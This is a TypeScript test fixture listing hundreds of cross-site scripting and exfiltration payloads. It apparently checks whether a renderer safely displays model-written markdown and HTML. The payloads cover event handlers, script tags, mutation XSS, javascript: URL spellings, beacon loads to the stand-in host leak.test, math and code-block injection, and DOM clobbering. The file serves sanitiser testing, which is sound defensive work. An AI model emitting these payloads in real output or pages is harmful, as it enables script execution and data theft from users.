/**
 * What a model may write to break out of its column: at least one text per technique. A payload that runs calls alert();
 * one that leaks asks for an address of the host leak.test.
 */
const RUN = 'alert(1)';
const LEAK = 'https://leak.test/x';

/** Elements that run a script by an event of their own, without anybody's doing. */
const EVENTS = [
  `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}"`, `<img/src/onerror=${RUN}>`, `<IMG SRC=x OnErRoR=${RUN}>`, `<img src=x:x onerror="${RUN}">`,
  `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><set onbegin=${RUN} attributeName=x>`,
  `<body onload=${RUN}>`, `<body onpageshow=${RUN}>`, `<input autofocus onfocus=${RUN}>`, `<select autofocus onfocus=${RUN}>`, `<textarea autofocus onfocus=${RUN}>`,
  `<video src=x onerror=${RUN}>`, `<video><source onerror=${RUN}></video>`, `<audio src=x onerror=${RUN}>`, `<details open ontoggle=${RUN}>`, `<marquee onstart=${RUN}>`,
  `<iframe onload=${RUN}></iframe>`, `<object data=x onerror=${RUN}>`, `<embed src=x onerror=${RUN}>`, `<style onload=${RUN}></style>`, `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<script src=x onerror=${RUN}></script>`, `<div style="animation-name:x" onanimationstart=${RUN}>`, `<xss autofocus tabindex=1 onfocus=${RUN}>x</xss>`, `<dialog open onclose=${RUN}>`,
  `<table background=x onload=${RUN}>`, `<image src=x onerror=${RUN}>`, `<isindex onfocus=${RUN} autofocus>`, `<keygen autofocus onfocus=${RUN}>`,
];

const SCRIPTS = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script >${RUN}</script >`, `<script\n>${RUN}</script\n>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<<script>${RUN}//<</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`, `<script src=//leak.test/x.js></script>`, `<script type=module>${RUN}</script>`, `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`, `<math><script>${RUN}</script></math>`, `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<iframe src="javascript:parent.${RUN}"></iframe>`, `<iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`, `<object data="data:text/html,<script>${RUN}</script>"></object>`, `<embed src="javascript:${RUN}">`, `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<base href="javascript:${RUN}//">`, `<portal src="javascript:${RUN}">`,
];

/** What changes its meaning when it is parsed a second time, or in another namespace. */
const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`, `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`, `<svg><title><style><img src=x onerror=${RUN}></style></title></svg>`, `<svg><desc><![CDATA[</desc><img src=x onerror=${RUN}>]]></svg>`,
  `<!--><img src=x onerror=${RUN}>-->`, `<![CDATA[<img src=x onerror=${RUN}>]]>`, `<?xml version="1.0"?><img src=x onerror=${RUN}>`, `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<textarea></textarea><img src=x onerror=${RUN}>`, `<title></title><img src=x onerror=${RUN}>`, `<plaintext><img src=x onerror=${RUN}>`, `<select><option><img src=x onerror=${RUN}></select>`,
  `<table><td><img src=x onerror=${RUN}></td></table>`, `<p title="<img src=x onerror=${RUN}>">`, `<a href="x" title="\`<img src=x onerror=${RUN}>\`">`, `&lt;img src=x onerror=${RUN}&gt;`, `&#60;img src=x onerror=${RUN}&#62;`,
  `\\<img src=x onerror=${RUN}>`, `<img src="x\` onerror=${RUN} \`">`, `<img\u0000src=x onerror=${RUN}>`, `<img src=x\u2028onerror=${RUN}>`,
];

/** Spellings of addresses that run script. */
const SCHEMES = [
  'javascript:', 'JaVaScRiPt:', 'javascript&colon;', 'java\tscript:', 'java\nscript:', '&#106;avascript:', '\u0001javascript:', ' javascript:', 'javascript://%0a', 'javascript:/*--></title>*/', 'vbscript:',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'blob:', 'view-source:javascript:', 'feed:javascript:', 'wails://wails/', 'file:///etc/passwd',
];
const LINKS = SCHEMES.flatMap((scheme) => [
  `[link](${scheme}${RUN})`, `[link](<${scheme}${RUN}>)`, `<${scheme}${RUN}>`, `![image](${scheme}${RUN})`, `[ref]\n\n[ref]: ${scheme}${RUN}`, `<a href="${scheme}${RUN}">x</a>`,
]);

/** What sends something away without running a script. */
const LEAKS = [
  `![x](${LEAK})`, `![x][r]\n\n[r]: ${LEAK}`, `<img src=${LEAK}>`, `<img srcset="${LEAK} 2x">`, `<picture><source srcset=${LEAK}><img></picture>`, `<link rel=preload as=image href=${LEAK}>`, `<link rel=preconnect href=${LEAK}>`,
  `<link rel=dns-prefetch href=//leak.test>`, `<link rel=prefetch href=${LEAK}>`, `<link rel=stylesheet href=${LEAK}>`, `<style>@import '${LEAK}';</style>`, `<style>*{background:url(${LEAK})}</style>`, `<p style="background:url(${LEAK})">x</p>`,
  `<video poster=${LEAK}></video>`, `<audio src=${LEAK} autoplay></audio>`, `<input type=image src=${LEAK}>`, `<body background=${LEAK}>`, `<object data=${LEAK}></object>`, `<embed src=${LEAK}>`, `<iframe src=${LEAK}></iframe>`,
  `<svg><image href=${LEAK} /></svg>`, `<svg><use href="${LEAK}#x"/></svg>`, `<svg><feImage href=${LEAK} /></svg>`, `<a ping=${LEAK} href=#>x</a>`, `<meta http-equiv=refresh content="0;url=${LEAK}">`, `<base href=${LEAK}><img src=y>`,
  `<form action=${LEAK}><input name=x></form>`, `<track src=${LEAK}>`, `<math href=${LEAK}>x</math>`, `<table background=${LEAK}><td>x</table>`, `<link rel=icon href=${LEAK}>`, `<script type=speculationrules>{"prefetch":[{"urls":["${LEAK}"]}]}</script>`,
  `$\\href{${LEAK}}{x}$`, `$\\includegraphics{${LEAK}}$`, `$\\url{${LEAK}}$`, `$\\htmlStyle{background:url(${LEAK})}{x}$`,
];

/** Maths, code and structure: second renderers, and what takes names away from the page. */
const STRUCTURE = [
  `$\\href{javascript:${RUN}}{x}$`, `$\\htmlData{x=y}{<img src=x onerror=${RUN}>}$`, `$<img src=x onerror=${RUN}>$`, `$$\\unknown<img src=x onerror=${RUN}>$$`, `\\(\\text{<script>${RUN}</script>}\\)`,
  `$\\def\\a{\\a\\a}\\a$`, `$\\rule{99999em}{99999em}$`, `\`\`\`html\n<img src=x onerror=${RUN}>\n\`\`\``, `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``, `\`\`\`js onload=${RUN}\n${RUN}\n\`\`\``,
  `\`<img src=x onerror=${RUN}>\``, `\`\`\`\n</code></pre><img src=x onerror=${RUN}>`, `| <img src=x onerror=${RUN}> | b |\n|---|---|\n| <script>${RUN}</script> | c |`, `> <img src=x onerror=${RUN}>`, `- <img src=x onerror=${RUN}>`,
  `# <img src=x onerror=${RUN}>`, `<a id=harness></a><a id=ran></a>`, `<form id=document><input name=body></form>`, `<img name=getElementById>`, `<form name=harness>`, `<span class="md-link md-link-0">x</span>`,
  `[a](https://a.test "onmouseover=${RUN}")`, `[<img src=x onerror=${RUN}>](https://a.test)`, `![<img src=x onerror=${RUN}>](https://a.test/x)`, `[x](https://a.test'onclick='${RUN})`, `&nbsp;<script>${RUN}</script>`,
  `\u202e<script>${RUN}</script>`, `[^1]\n\n[^1]: <img src=x onerror=${RUN}>`, `<details><summary>x</summary><img src=x onerror=${RUN}></details>`, `<button onclick=${RUN} autofocus>x</button>`,
];

export const PAYLOADS: readonly string[] = [...EVENTS, ...SCRIPTS, ...MUTATIONS, ...LINKS, ...LEAKS, ...STRUCTURE];
